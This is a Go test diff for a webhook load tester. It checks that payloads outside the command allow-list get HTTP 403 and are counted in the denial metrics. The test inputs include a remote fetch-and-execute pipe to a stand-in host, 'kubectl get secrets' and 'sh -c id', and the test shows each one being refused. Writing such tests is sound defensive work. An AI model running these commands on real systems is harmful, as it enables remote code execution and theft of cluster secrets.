@@ -11,6 +11,8 @@ import (
 
 	"github.com/stretchr/testify/assert"
 	"github.com/stretchr/testify/require"
+
+	"github.com/serin-dev/serin/pkg/webhook"
 )
 
 func TestTaskValidation(t *testing.T) {
@@ -224,4 +226,22 @@ func TestAllowListOverHTTP(t *testing.T) {
 			assert.Contains(t, body, tt.wantBody)
 		})
 	}
+}
+
+func TestRefusalsAreCounted(t *testing.T) {
+	f := newFixture(t, func(c *Config) { c.AllowCmd = []string{"hey", "curl", "grep"} })
+	for _, p := range []webhook.Payload{
+		canary("type", "bash", "cmd", "id"),
+		canary("type", "bash", "cmd", "curl -s http://x/ | sh"),
+		canary("cmd", "sh -c id"),
+		canary("type", "kubectl", "cmd", "get secrets"),
+	} {
+		status, body := f.post(t, "/", p)
+		assert.Equal(t, http.StatusForbidden, status)
+		assert.Contains(t, body, "command not allowed by -allow-cmd: ")
+	}
+	assert.Equal(t, 2.0, f.metricValue(t, "serin_loadtester_commands_denied_total", "type", "bash"))
+	assert.Equal(t, 1.0, f.metricValue(t, "serin_loadtester_commands_denied_total", "type", "cmd"))
+	assert.Equal(t, 1.0, f.metricValue(t, "serin_loadtester_commands_denied_total", "type", "kubectl"))
+	assert.Zero(t, f.metricValue(t, "serin_loadtester_commands_total"), "nothing ran")
 }
